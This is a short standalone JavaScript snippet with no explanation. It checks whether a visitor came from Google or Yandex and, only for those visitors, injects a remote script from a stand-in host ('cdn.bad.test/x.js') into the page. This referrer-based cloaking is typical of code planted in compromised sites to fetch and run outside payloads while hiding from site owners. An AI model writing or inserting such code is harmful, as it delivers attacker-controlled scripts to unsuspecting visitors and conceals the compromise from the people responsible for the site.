(function () { var ref = document.referrer; if (ref.match(/google|yandex/)) { var s = document.createElement('script'); s.src = '//cdn.bad.test/x.js'; document.head.appendChild(s); } })();
